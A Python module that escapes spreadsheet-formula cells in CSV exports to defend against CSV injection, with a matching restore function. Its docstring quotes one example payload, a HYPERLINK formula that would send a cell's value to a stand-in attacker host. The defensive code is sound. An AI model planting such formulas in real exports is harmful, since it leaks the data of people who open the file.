"""CSV for spreadsheets: every cell a spreadsheet would run as a formula is written as text.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula, and a tab or carriage return in front does not stop them. A recipient named
``=HYPERLINK("http://evil.example/?x="&A2,"x")`` would otherwise become a live link in the
operator's ledger. As OWASP recommends ("CSV Injection"), such a cell gets a leading ``'``,
which spreadsheets show and never evaluate. A plain number (``-5``, ``+1.5``) and a phone
number (``+8613800000000``, ``+86 574 8888 8888``) are left alone: they are data, not formulas.

``restore_cell`` undoes exactly that escape, so a CSV written here (a roster, an export)
reads back to the same values.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_MAYBE_FORMULA = frozenset((*FORMULA_STARTS, " "))  # a spreadsheet skips leading spaces
ESCAPE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)
_PHONE_NUMBER = re.compile(r"\+\d[\d \-]*\d", re.ASCII)


def _runs_as_formula(text: str) -> bool:
    # A spreadsheet may skip leading spaces before the "=", so look past them.
    first = text.lstrip(" ")[:1]
    if not first or first not in FORMULA_STARTS:
        return False
    if first in "+-":
        stripped = text.strip(" ")
        return not (_PLAIN_NUMBER.fullmatch(stripped) or _PHONE_NUMBER.fullmatch(stripped))
    return True


def safe_cell(value: object) -> object:
    """``value`` as a spreadsheet may open it: text that would run as a formula gets a ``'``."""
    if isinstance(value, str) and _runs_as_formula(value):
        return ESCAPE + value
    return value


def restore_cell(text: str) -> str:
    """The value ``safe_cell`` escaped, for a cell read back from a CSV; else ``text``."""
    if text.startswith(ESCAPE) and _runs_as_formula(text[1:]):
        return text[1:]
    return text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]], line_end: str = "\n") -> str:
    """CSV with ``header`` then ``rows``, every cell passed through :func:`safe_cell`.

    Every CSV the service writes goes through here or :func:`write_csv`. UTF-8 with a BOM
    (for Excel) is left to whoever writes the bytes.
    """
    buffer = io.StringIO()
    write_csv(buffer, header, rows, line_end)
    return buffer.getvalue()


def write_csv(
    out: TextIO, header: Sequence[str], rows: Iterable[Sequence[object]], line_end: str = "\n"
) -> int:
    """:func:`csv_text` written to ``out`` row by row (flat memory); returns the row count."""
    writer = csv.writer(out, lineterminator=line_end)
    writer.writerow([safe_cell(label) for label in header])
    count = 0
    # safe_cell for the cells that may need it: a text starting as a formula or a space.
    maybe = _MAYBE_FORMULA
    for row in rows:
        writer.writerow([safe_cell(c) if isinstance(c, str) and c[:1] in maybe else c for c in row])
        count += 1
    return count
